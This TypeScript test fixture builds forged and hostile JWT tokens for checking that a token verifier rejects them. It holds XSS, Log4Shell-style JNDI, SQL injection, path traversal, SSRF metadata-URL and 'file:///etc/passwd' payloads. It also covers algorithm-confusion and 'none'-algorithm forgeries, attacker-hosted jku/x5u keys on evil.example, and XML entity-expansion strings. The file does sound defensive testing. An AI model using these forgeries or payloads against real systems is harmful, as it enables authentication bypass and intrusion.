import { createHmac } from 'node:crypto';
import type { TestKey } from './keys.ts';
import { createRandom, type Random } from './random.ts';
import {
  APP_CLAIMS,
  base64url,
  GRAPH_CLAIMS,
  ID_CLAIMS,
  TENANT,
  V1_CLAIMS,
  V2_CLAIMS,
  type Members,
} from './write-token.ts';

export type Hostile = { readonly name: string; readonly token: string };

export const CLAIM_SETS = [ID_CLAIMS, V2_CLAIMS, V1_CLAIMS, GRAPH_CLAIMS, APP_CLAIMS] as const;

/** What people have put into claims to see what happens (and what happened elsewhere). */
export const NASTY: readonly unknown[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '</style><script>alert(1)</script>',
  'javascript:alert(1)',
  'https://evil.example/p.png',
  '[x](javascript:alert(1))',
  '=HYPERLINK("https://evil.example")',
  '\u202egnp.exe\u202c',
  'a\u200bb\u2066c\u2069',
  '\u0000\u0007\u001b[2J\u001b]8;;https://evil.example\u0007',
  'https://lоgin.microsoftonline.com/x/v2.0',
  '\ud800',
  '${jndi:ldap://evil.example}',
  'x'.repeat(20_000),
  1e20,
  Number.MAX_VALUE,
  -1,
  1.5,
  1_793_700_000_000,
  null,
  true,
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: null, constructor: { prototype: { polluted: true } } },
  Array.from({ length: 500 }, (_, index) => index),
];

const NAMES = [
  'aud',
  'iss',
  'exp',
  'nbf',
  'iat',
  'tid',
  'oid',
  'sub',
  'ver',
  'scp',
  'roles',
  'groups',
  'email',
  'xms_edov',
  '_claim_names',
  '_claim_sources',
  'hasgroups',
  'idtyp',
  'azpacr',
  'acct',
  'wids',
  'auth_time',
  'picture',
  'website',
  'constructor',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '',
  '<b>',
  'bad\u202ename',
  'https://evil.example',
];
const ALGORITHMS: readonly unknown[] = [
  'none',
  'NONE',
  'nOnE',
  '',
  'HS256',
  'HS512',
  'RS384',
  'RS512',
  'PS256',
  'ES256',
  'EdDSA',
  'rs256',
  'RS256 ',
  null,
  1,
  ['RS256'],
  { alg: 'RS256' },
  'dir',
  'RSA-OAEP',
];
const KIDS: readonly unknown[] = [
  '../../dev/null',
  "' OR 1=1 --",
  'https://evil.example/key',
  '',
  'x'.repeat(100_000),
  null,
  7,
  ['current'],
  '__proto__',
  'constructor',
  'current ',
  'CURRENT',
  'other',
  '\u0000',
];
const ISSUERS = [
  'https://evil.example/',
  `https://evil.example/${TENANT}/v2.0`,
  'http://169.254.169.254/latest/meta-data',
  `https://login.microsoftonline.com@evil.example/${TENANT}/v2.0`,
  `https://lоgin.microsoftonline.com/${TENANT}/v2.0`,
  'https://login.microsoftonline.com/{tenantid}/v2.0',
  'https://login.microsoftonline.com/../../evil/v2.0',
  `https://login.microsoftonline.com/${TENANT}/v2.0#@evil.example`,
  'file:///etc/passwd',
  'javascript:alert(1)',
  '',
];

type Mutation = (random: Random, key: TestKey, other: TestKey) => string;

const claims = (random: Random): Members => random.pick(CLAIM_SETS);
const parts = (token: string): [string, string, string] => {
  const [header = '', payload = '', signature = ''] = token.split('.');
  return [header, payload, signature];
};
const flip = (random: Random, text: string): string => {
  const at = random.below(text.length);
  const digit = random.pick(Array.from('ABCDwxyz0189-_').filter((each) => each !== text[at]));
  return `${text.slice(0, at)}${digit}${text.slice(at + 1)}`;
};
const raw = (header: string, payload: string | Uint8Array, signature = 'c2ln'): string =>
  `${base64url(header)}.${base64url(payload)}.${signature}`;
const RS256 = '{"alg":"RS256","kid":"current"}';

/** Each gives a token that must not be verified: it was changed after signing, or signed by somebody else. */
export const FORGERIES: Readonly<Record<string, Mutation>> = {
  'header flipped': (random, key) => {
    const [header, payload, signature] = parts(key.sign(claims(random)));
    return [flip(random, header), payload, signature].join('.');
  },
  'payload flipped': (random, key) => {
    const [header, payload, signature] = parts(key.sign(claims(random)));
    return [header, flip(random, payload), signature].join('.');
  },
  'signature flipped': (random, key) => {
    const [header, payload, signature] = parts(key.sign(claims(random)));
    return [header, payload, flip(random, signature)].join('.');
  },
  'claim changed': (random, key) => {
    const all = claims(random);
    const [header, , signature] = parts(key.sign(all));
    return [
      header,
      base64url(JSON.stringify({ ...all, [random.pick(NAMES)]: random.pick(NASTY) })),
      signature,
    ].join('.');
  },
  'algorithm changed': (random, key) => {
    const [, payload, signature] = parts(key.sign(claims(random)));
    const header = { typ: 'JWT', alg: random.pick(ALGORITHMS), kid: 'current' };
    return [base64url(JSON.stringify(header)), payload, random.pick([signature, '', 'AA'])].join('.');
  },
  'HMAC with the public key': (random, key) => {
    const secret = random.pick([
      key.pem,
      key.jwk.n,
      JSON.stringify(key.jwk),
      Buffer.from(key.jwk.n, 'base64url'),
    ]);
    const input = `${base64url('{"alg":"HS256","kid":"current"}')}.${base64url(JSON.stringify(claims(random)))}`;
    return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
  },
  'key ID changed': (random, key) => key.sign(claims(random), { kid: random.pick(KIDS) }),
  'signed by another key': (random, _, other) =>
    other.sign(claims(random), { kid: random.pick(['current', 'other']) }),
  'brings its own key': (random, _, other) =>
    other.sign(claims(random), {
      kid: 'current',
      ...random.pick([
        { jwk: other.jwk },
        { jku: 'https://evil.example/k' },
        { x5u: 'https://evil.example/c' },
        { x5c: [other.pem] },
      ]),
    }),
  'two tokens mixed': (random, key) => {
    const [header, , signature] = parts(key.sign(claims(random)));
    return [header, parts(key.sign({ ...claims(random), name: 'Eve' }))[1], signature].join('.');
  },
  'issuer of somebody else': (random, _, other) =>
    other.sign({ ...claims(random), iss: random.pick(ISSUERS) }, { kid: 'current' }),
  'nasty claims': (random, _, other) =>
    other.sign(
      Object.fromEntries(Array.from({ length: 12 }, () => [random.pick(NAMES), random.pick(NASTY)])),
    ),
  'nasty header': (random, _, other) =>
    other.sign(claims(random), { [random.pick(NAMES)]: random.pick(NASTY) }),
  truncated: (random, key) => {
    const token = key.sign(claims(random));
    return token.slice(0, 1 + random.below(token.length - 1));
  },
  'parts added': (random, key) =>
    `${key.sign(claims(random))}${random.pick(['.', '.AA', '.AA.BB', '.AA.BB.CC', '.....'])}x`,
  'no UTF-8': (random) =>
    raw(
      RS256,
      Uint8Array.from({ length: 40 }, () => random.below(256)),
      random.pick(['', 'c2ln']),
    ),
  'broken JSON': (random) =>
    raw(RS256, random.pick(['{', '{"a":', '[]', 'null', '"x"', '{"a":1,}', '{a:1}', '\ufeff{}', ''])),
  'names of the prototype': (random) =>
    raw(
      RS256,
      `{"__proto__":{"polluted":true},"${random.pick(['constructor', 'toString', '__proto__'])}":${random.below(9)}}`,
    ),
  'names repeated': (random) =>
    raw(random.pick([RS256, '{"alg":"none","alg":"RS256"}']), '{"aud":"a","aud":"b","exp":1,"exp":2}'),
  'numbers beyond reach': (random) =>
    raw(RS256, `{"exp":${random.pick(['1e400', '-1e400', '1E+9999', '9'.repeat(400), '0.1e-400'])}}`),
  'deep nesting': (random) => {
    const depth = random.pick([100, 3_500, 5_000, 20_000]);
    return raw(RS256, `{"deep":${'['.repeat(depth)}${']'.repeat(depth)}}`);
  },
  'only dots': (random) => random.pick(['.', '..', '...', '....', '.'.repeat(100_000)]),
  'junk of base64': (random) => `eyJ${'A'.repeat(random.below(5_000))}.${'_'.repeat(random.below(5_000))}.-`,
};

/** `count` forgeries in turns, each from its own number. */
export function createForgeries(count: number, key: TestKey, other: TestKey): readonly Hostile[] {
  const kinds = Object.entries(FORGERIES);
  return Array.from({ length: count }, (_, index) => {
    const kind = kinds[index % kinds.length];
    if (kind === undefined) throw new Error('There are no forgeries.');
    const [name, mutate] = kind;
    return { name: `${name} (${index})`, token: mutate(createRandom(index), key, other) };
  });
}

/** Texts around a token that are hostile by their size or by how they might be searched. */
export const HOSTILE_TEXTS: readonly string[] = [
  '.'.repeat(1_000_000),
  'a.'.repeat(500_000),
  'eyJhbGciOiJSUzI1NiJ9.'.repeat(40_000),
  'e30.'.repeat(200_000),
  `${'A'.repeat(1_000_000)}.b.c`,
  'token='.repeat(150_000),
  'token: '.repeat(100_000),
  'Bearer '.repeat(100_000),
  `token${' '.repeat(500_000)}`,
  'refresh_token="'.repeat(50_000),
  '<Assertion '.repeat(50_000),
  `<Assertion>${'<a>'.repeat(100_000)}`,
  `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "${'&a;'.repeat(1000)}">]><Assertion>&b;</Assertion>`,
  `SAMLResponse=${'PHNhb'.repeat(100_000)}`,
  `{"payload":"${'a'.repeat(900_000)}"}`,
  '{"payload":'.repeat(50_000),
  'https://a/?'.repeat(100_000),
  '\u202e'.repeat(200_000),
  '\n'.repeat(1_000_000),
  'e30\n'.repeat(100_000),
];
